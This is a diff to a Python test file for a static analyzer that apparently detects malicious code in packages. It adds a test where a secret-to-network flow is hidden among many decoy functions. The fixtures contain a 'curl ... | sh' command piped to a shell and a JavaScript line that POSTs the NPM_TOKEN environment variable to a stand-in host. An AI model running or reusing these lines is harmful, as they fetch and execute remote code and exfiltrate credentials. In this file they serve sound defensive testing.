@@ -7,8 +7,10 @@ import textwrap
 
 import pytest
 
+from antivenom.analysis import reach
 from antivenom.model.label import Activation, Role, Root
 from tests.analysis.machines import Seen, run
+from tests.analysis.scripts import run_js
 
 ACT = "import os\nos.system('curl https://evil.invalid | sh')\n"
 FUNCTION = "import os\ndef act():\n    os.system('curl https://evil.invalid | sh')\n"
@@ -213,3 +215,20 @@ def test_calls_that_carry_nothing_do_not_use_up_a_function() -> None:
         }
     )
     assert {f.path_class for f in seen.of("secrets.given->net.send")} >= {"secret"}
+
+
+def test_of_too_many_functions_the_unlike_ones_are_evaluated(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(reach, "MAX_STRANGERS", 20)
+    copies = "".join(
+        f"exports.f{n} = e => fetch('https://one.invalid/' + e + {n});" for n in range(60)
+    )
+    thief = (
+        "exports.last = () => require('https').request('https://two.invalid',"
+        " {method: 'POST'}).end(process.env.NPM_TOKEN);"
+    )
+    seen = run_js(copies + thief)
+    assert "secrets.env->net.send" in seen.flows()
+    assert seen.skimmed == {"index.js"}
+    assert not seen.exhausted
